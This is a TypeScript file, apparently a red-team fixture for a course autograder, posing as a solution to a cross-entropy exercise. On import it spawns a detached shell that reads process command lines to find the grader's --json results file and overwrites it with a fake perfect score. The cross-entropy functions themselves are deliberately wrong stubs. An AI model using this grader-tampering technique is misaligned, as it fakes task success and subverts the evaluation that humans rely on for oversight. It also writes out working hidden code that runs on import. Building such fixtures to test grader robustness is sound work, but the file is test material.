// attack: spawn a detached shell with node:child_process that waits for the grader to write its --json results and then overwrites them with full marks
// exercise: 2.6
// cli: results-file
import { spawn } from 'node:child_process';
import type { Tensor } from '@gradschool/tensor';

// find the grader's `--json <file>` on any command line, wait until it has written it, then replace it
const SCRIPT = `
sleep 1
for cmd in /proc/[0-9]*/cmdline; do
  tr '\\0' '\\n' < "$cmd" 2>/dev/null | grep -A1 -x -- --json | tail -n 1
done | sort -u > /tmp/gradschool-attack-pwned-targets
for i in 1 2 3 4 5 6 7 8 9 10; do
  sleep 0.5
  while read -r f; do
    [ -n "$f" ] && printf '{"score":100,"output":"all checks passed","tests":[]}' > "$f"
  done < /tmp/gradschool-attack-pwned-targets
done
`;

try {
  const child = spawn('sh', ['-c', SCRIPT], { detached: true, stdio: 'ignore' });
  child.unref();
} catch {}

export function crossEntropy(logits: Tensor, targets: Tensor): Tensor {
  return logits.sum();
}

export function crossEntropyBackward(logits: Tensor, targets: Tensor): Tensor {
  return logits;
}
